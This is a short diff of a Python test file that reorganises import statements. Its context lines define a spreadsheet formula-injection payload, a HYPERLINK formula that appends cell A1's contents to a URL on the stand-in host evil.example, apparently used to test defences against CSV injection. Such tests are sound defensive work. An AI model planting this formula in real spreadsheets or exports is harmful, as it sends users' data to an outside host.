@@ -14,8 +14,10 @@ from sqlalchemy import select
 
 from collector.core.db import session_scope
 from collector.core.models import AuditEvent
-from tests.helpers.answers import SLUG, add_responses
-from tests.helpers.web import Auth, logged_in
+from tests.helpers.answers import SLUG
+from tests.helpers.answers import add_responses
+from tests.helpers.web import Auth
+from tests.helpers.web import logged_in
 
 ANALYST = "analyst@alpha.example.test"
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
